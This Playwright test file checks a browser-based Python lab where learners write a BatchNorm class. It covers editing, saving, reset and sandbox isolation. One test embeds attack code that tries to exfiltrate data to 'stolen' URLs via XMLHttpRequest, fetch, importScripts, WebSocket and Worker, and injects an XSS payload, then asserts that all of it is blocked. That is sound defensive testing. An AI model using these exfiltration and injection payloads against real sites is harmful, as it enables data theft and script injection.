"""Your norm in a real Chromium: written, run, ended, given and shut off."""

import json
import re
import zlib
from base64 import urlsafe_b64encode
from collections.abc import Iterator

import pytest
from playwright.sync_api import BrowserContext, Page, Playwright, expect

from tests.browser.conftest import chromium
from tests.browser.lab import alt, await_alt
from tests.browser.static import Static, put, served, site_files
from ui.your_norm.starting_points import STARTING_POINTS

pytestmark = pytest.mark.browser

WHOLE = STARTING_POINTS[0].code
SHIFTED = WHOLE.replace("+ self.beta", "+ self.beta + 1")
ALL_RIGHT = re.compile(r"^All \d+ are right\.$")
READY = "document.getElementById('python').dataset.state === 'ready'"
# A machine without room for a spare Python: it would only make the tests slower.
SMALL = "Object.defineProperty(navigator, 'deviceMemory', { get: () => 1 })"
# Every question to Python, as the page asks it.
SPY = """
window.asked = [];
const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (message, ...rest) {
  if (message?.wanted) window.asked.push(message);
  return post.call(this, message, ...rest);
};
"""
LISTEN = """() => {
  window.channel = new BroadcastChannel("any");
  window.channel.onmessage = () => { window.broken = 2 };
}"""
# What code tries that wants out. The page writes its own host in the place of HOST.
ATTACK = """
import js
from ui.your_norm import answers

HOST = "{host}"

def tried(name, what):
    try:
        print(name, "got", what())
    except BaseException as error:
        print(name, "raised", type(error).__name__)

def asked():
    request = js.XMLHttpRequest.new()
    request.open("GET", f"http://{HOST}/stolen-by-request", False)
    request.send()

tried("request", asked)
tried("script", lambda: js.eval(f"delete self.importScripts; importScripts('http://{HOST}/stolen')"))
tried("module", lambda: js.eval(f"import('http://{HOST}/stolen.js').catch(() => 0)"))
tried("fetch", lambda: js.eval(f"delete self.fetch; fetch('http://{HOST}/stolen').catch(() => 0)"))
tried("socket", lambda: js.WebSocket.new(f"ws://{HOST}/stolen-by-socket"))
tried("database", lambda: js.indexedDB.open("any"))
tried("channel", lambda: js.BroadcastChannel.new("any").postMessage("heard"))
tried("worker", lambda: js.Worker.new(f"http://{HOST}/stolen"))
tried("origin", lambda: js.origin)
encoded = answers.encoded
def forged(value):
    if "shown" in value:
        value["shown"]["numbers"] = "<img src=x onerror='window.broken = 1'>forged"
    return encoded(value)
answers.encoded = forged
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Static]:
    root = tmp_path_factory.mktemp("web")
    for folder in ("lab", "other"):
        put(site_files(), root / folder)
    with served(root) as one:
        yield one


@pytest.fixture(scope="module")
def visitor(
    playwright: Playwright, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[BrowserContext]:
    profile = tmp_path_factory.mktemp("visitor")
    with chromium(playwright, profile, bypass_csp=False) as context:
        yield context


@pytest.fixture
def page(visitor: BrowserContext, server: Static) -> Iterator[Page]:
    page = visitor.new_page()
    page.add_init_script(SMALL)
    yield page
    page.goto(f"http://{server.host}/")  # the page keeps what stands there as it is left
    page.evaluate("localStorage.clear()")
    page.close()


def visit(page: Page, server: Static, rest: str = "", folder: str = "lab") -> None:
    page.goto(f"http://{server.host}/{folder}/your_norm/{rest}")
    page.wait_for_function(READY, timeout=60_000)


def write(page: Page, code: str) -> None:
    """Put the code in the place of what stands in the editor, as a hand would."""
    page.get_by_label("Your class, in Python").focus()
    page.keyboard.press("ControlOrMeta+A")
    page.keyboard.insert_text(code)


def written(page: Page) -> str:
    lines: list[str] = page.locator(".cm-line").all_inner_texts()
    return "\n".join(line.rstrip("\n") for line in lines)


def test_what_is_typed_is_seen_and_what_is_wrong_stands_at_its_line(
    page: Page, server: Static
) -> None:
    visit(page, server)
    expect(page.locator(".norm-summary")).to_have_text(ALL_RIGHT)
    write(page, SHIFTED + 'print("<b>here</b>")\n')
    await_alt(page, "After your norm: mean 1.00")
    expect(page.locator("[data-state=wrong]").first).to_contain_text("expected 0")
    expect(page.locator(".norm-printed pre")).to_have_text("<b>here</b>\n")
    page.locator("#set-mean").press("ArrowRight")
    await_alt(page, "Before: mean 5.13")
    await_alt(page, "After your norm: mean 1.00")
    lines = WHOLE.splitlines()
    number = next(place for place, line in enumerate(lines, 1) if "return Y" in line)
    write(page, WHOLE.replace("return Y.", "return X."))
    expect(page.locator(".norm-wrong-number")).to_have_text(str(number))
    expect(page.locator("#norm-error")).to_contain_text(f"Line {number}: ")
    expect(page.locator(".norm-wrong-text")).to_contain_text("X")
    assert "After your norm: mean 1.00" in alt(page), "the pictures stay"


def test_a_loop_without_end_is_stopped_and_the_page_goes_on(page: Page, server: Static) -> None:
    visit(page, server)
    write(page, WHOLE + "while True:\n    pass\n")
    expect(page.locator("#norm-error")).to_contain_text("Stopped after 2 seconds")
    assert "After your norm: mean 0.00" in alt(page)
    page.locator("#set-mean").press("ArrowRight")
    write(page, SHIFTED)
    await_alt(page, "After your norm: mean 1.00")
    await_alt(page, "Before: mean 5.13")
    expect(page.locator("#norm-error")).to_have_text("")


def test_code_of_a_link_waits_for_a_yes_and_does_not_get_out(page: Page, server: Static) -> None:
    page.add_init_script(SPY)
    code = WHOLE + ATTACK.replace("{host}", server.host)
    packer = zlib.compressobj(wbits=-15)
    packed = urlsafe_b64encode(packer.compress(code.encode()) + packer.flush()).decode()
    visit(page, server, f"#code={packed.rstrip('=')}")
    page.evaluate(LISTEN)
    expect(page.get_by_role("alertdialog")).to_contain_text("came with a link")
    page.locator("#set-mean").press("ArrowRight")
    page.wait_for_url(re.compile("mean=5.1"))
    asked = page.evaluate("window.asked.map(({ wanted, given }) => [wanted, given[0]])")
    assert ["ran", code] not in asked, "neither as it came nor as a slider moved"
    page.get_by_role("button", name="Run it").click()
    printed = page.locator(".norm-printed pre")
    expect(printed).to_contain_text("origin got null")
    told = dict(re.findall(r"^(\w+) (raised|got)", printed.inner_text(), re.MULTILINE))
    got = {name for name, what in told.items() if what == "got"}
    assert got == {"origin", "module"}, "a promise that comes to nothing"
    page.locator("#set-mean").press("ArrowRight")
    expect(page.locator(".st-key-numbers")).to_contain_text("<img src=x onerror=")
    # One of the page's own arrives, after all that the code has sent.
    page.evaluate("fetch('../arrives').then(() => null)")
    assert [path for path in server.asked if "arrives" in path]
    assert not [path for path in server.asked if "stolen" in path]
    assert page.evaluate("window.broken") is None


def test_what_was_written_is_kept_and_reset_asks_first(page: Page, server: Static) -> None:
    visit(page, server)
    write(page, SHIFTED)
    await_alt(page, "After your norm: mean 1.00")
    page.reload()
    await_alt(page, "After your norm: mean 1.00")
    assert "+ self.beta + 1" in written(page)
    page.get_by_role("button", name="Copy link").click()
    field = page.get_by_role("textbox", name="Link")
    expect(field).to_have_value(re.compile("#code=."))
    link = field.input_value()
    page.get_by_role("button", name="Close").click()
    with page.expect_download() as saving:
        page.get_by_role("button", name="Save as .py").click()
    assert saving.value.path().read_text("utf-8") == SHIFTED
    page.get_by_role("button", name="Reset the code").click()
    assert "+ self.beta + 1" in written(page)
    page.get_by_role("button", name="Reset it").click()
    await_alt(page, "After your norm: mean 0.00")
    page.goto("about:blank")
    page.goto(link)
    page.get_by_role("button", name="Run it").click()
    await_alt(page, "After your norm: mean 1.00")
    page.get_by_label("Begin with").select_option("whole")
    await_alt(page, "After your norm: mean 0.00")
    kept = json.loads(page.evaluate("localStorage.getItem('your norm')"))
    assert kept == {"start": "whole", "texts": {"brought": SHIFTED}}


def test_from_a_gap_to_a_class_whose_every_check_is_right(page: Page, server: Static) -> None:
    gap = next(point for point in STARTING_POINTS if point.group != "whole")
    visit(page, server, f"?start={gap.name}")
    expect(page.get_by_label("Begin with")).to_have_value(gap.name)
    expect(page.locator(".norm-summary")).to_contain_text(" of ")
    page.get_by_role("button", name="Hint").click()
    expect(page.get_by_text(gap.hint)).to_be_visible()
    page.get_by_role("button", name="Show the solution").click()
    expect(page.get_by_text(gap.explained)).to_be_visible()
    expect(page.locator(".norm-summary")).to_have_text(ALL_RIGHT)
    page.get_by_label("Your class, in Python").focus()
    page.keyboard.press("ControlOrMeta+z")
    expect(page.locator(".norm-summary")).to_contain_text(" of ")


def test_without_its_editor_a_plain_field_does(page: Page, server: Static) -> None:
    page.route("**/codemirror-view-*", lambda route: route.abort())
    visit(page, server, folder="other")  # where no service worker has kept it
    field = page.get_by_role("textbox", name="Your class, in Python")
    expect(field).to_have_value(WHOLE)
    write(page, SHIFTED)
    await_alt(page, "After your norm: mean 1.00")
    field.press("Tab")
    expect(field).to_have_value(f"{SHIFTED}    ")
    field.press("Escape")
    field.press("Tab")
    expect(field).not_to_be_focused()
    write(page, "class BatchNorm:\n    def")
    expect(page.locator("#norm-error")).to_contain_text("Line 2")
    expect(page.locator(".norm-numbers")).to_contain_text("✗ 2")
